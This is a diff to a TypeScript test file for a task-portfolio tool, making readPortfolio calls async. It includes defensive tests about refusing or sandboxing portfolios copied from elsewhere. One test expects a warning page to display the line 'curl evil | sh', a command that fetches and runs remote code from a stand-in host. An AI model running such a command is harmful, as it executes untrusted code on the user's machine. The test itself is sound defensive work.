@@ -24,7 +24,8 @@ import { answerPortfolio } from "./answer.ts";
 import { editPortfolio, moveTask, pausePortfolio } from "./change.ts";
 import { copyIn, portfolioAt } from "../../portfolio/store/folder.ts";
 import { importBacklog } from "./import.ts";
-import { readPortfolio, withPortfolio } from "../../portfolio/store/open.ts";
+import { readPortfolio } from "../../portfolio/store/fold.ts";
+import { withPortfolio } from "../../portfolio/store/open.ts";
 import { compactPortfolio, rebuildPortfolio } from "./rebuild.ts";
 import { portfolioInbox, showPortfolio, tickPortfolio } from "./show.ts";
 
@@ -181,7 +182,7 @@ test("the folder of another tool is taken up with its tasks, and nothing of it s
   writeFileSync(join(root, ".openclaw-autopilot/tasks/task-old-abc123.md"), page);
   const place = placeIn(root);
   expect(await initPortfolio(place, {})).toMatchObject({ result: "PASS", data: { taken_up: true } });
-  const state = readPortfolio(portfolioAt(root));
+  const state = await readPortfolio(portfolioAt(root));
   expect(state.tasks["task-old-abc123"]).toMatchObject({
     status: "proposed",
     objective: "Finish the old work",
@@ -236,7 +237,7 @@ test("an import with ten thousand tasks of which three are wrong tells all three
     "tasks[5000]: there is no project Nobody.",
     "tasks[9999]: it depends on k10000, which is no task. Did you mean k100?",
   ]);
-  expect(Object.keys(readPortfolio(portfolioAt(root)).tasks)).toHaveLength(0);
+  expect(Object.keys((await readPortfolio(portfolioAt(root))).tasks)).toHaveLength(0);
 });
 
 test("YAML and a Markdown backlog are imported, and rings are found", async () => {
@@ -256,7 +257,7 @@ test("YAML and a Markdown backlog are imported, and rings are found", async () =
     "# Shop\n\n- [x] done before\n- [ ] sell apples\n  - accept: apples :: test -f apples\n  - touches: shop/**\n  - key: apples\n- [ ] sell pears\n  - after: apples\n",
   );
   expect((await importBacklog(place, { file: "backlog.md" })).data?.["ids"]).toHaveLength(2);
-  const tasks = Object.values(readPortfolio(portfolioAt(root)).tasks);
+  const tasks = Object.values((await readPortfolio(portfolioAt(root))).tasks);
   expect(tasks.map(({ objective }) => objective)).toEqual(["first", "second", "sell apples", "sell pears"]);
   expect(tasks[3]?.dependencies).toEqual([tasks[2]?.task_id]);
 });
@@ -294,7 +295,7 @@ test("an answer without an id while two questions are open is refused with the l
     result: "PASS",
   });
   expect(await answerPortfolio(place, { text: "red" })).toMatchObject({ result: "PASS" });
-  const state = readPortfolio(portfolioAt(root));
+  const state = await readPortfolio(portfolioAt(root));
   expect(ids.map((id) => state.tasks[id]?.status)).toEqual(["ready", "ready"]);
   expect(state.tasks[ids[0] ?? ""]?.blocked_duration_ms).toBeGreaterThanOrEqual(0);
 });
@@ -317,7 +318,7 @@ test("a portfolio that came from elsewhere is not read as one's own, and adopted
   expect(seen).toMatchObject({ result: "FAIL", reason_code: "portfolio_foreign" });
   expect(seen.page?.join("\n")).toContain("curl evil | sh");
   expect(await adoptPortfolio(there, { yes: true })).toMatchObject({ result: "PASS" });
-  expect(readPortfolio(portfolioAt(copied))).toMatchObject({ paused: true });
+  expect(await readPortfolio(portfolioAt(copied))).toMatchObject({ paused: true });
   expect(await showPortfolio(there, {})).toMatchObject({ result: "PASS" });
 });
 
@@ -363,7 +364,7 @@ test("adopted, a portfolio keeps its journal and no right that it brought along"
   expect(seen).toContain("isolation: yours (it names none, which is not taken over)");
   expect(seen).toContain("/proc/self/cwd leads elsewhere and is not taken over");
   expect(await adoptPortfolio(placeIn(copied), { yes: true })).toMatchObject({ result: "PASS" });
-  const state = readPortfolio(portfolioAt(copied));
+  const state = await readPortfolio(portfolioAt(copied));
   expect(state.tasks[at]).toMatchObject({ agent: null, isolation: null });
   expect(state.projects["proj-shop"]).toMatchObject({ repository: null, accept_unproved: false });
   expect(readdirSync(join(copied, ".autopilot/portfolio"))).not.toContain("hubs");
@@ -383,7 +384,7 @@ test("a line of another tool's starts nothing, names no repository, and moves no
   await portfolioInbox(place); // takes them in
   const { data } = await tickPortfolio(place, { dryRun: true });
   expect(data?.["actions"]).toEqual([]);
-  const state = readPortfolio(portfolioAt(place.cwd));
+  const state = await readPortfolio(portfolioAt(place.cwd));
   expect(Object.keys(state.tasks)).toHaveLength(5);
   expect(state.projects["proj-evil"]?.repository).toBeNull();
   expect(state.tasks[ours]?.status).toBe("proposed");
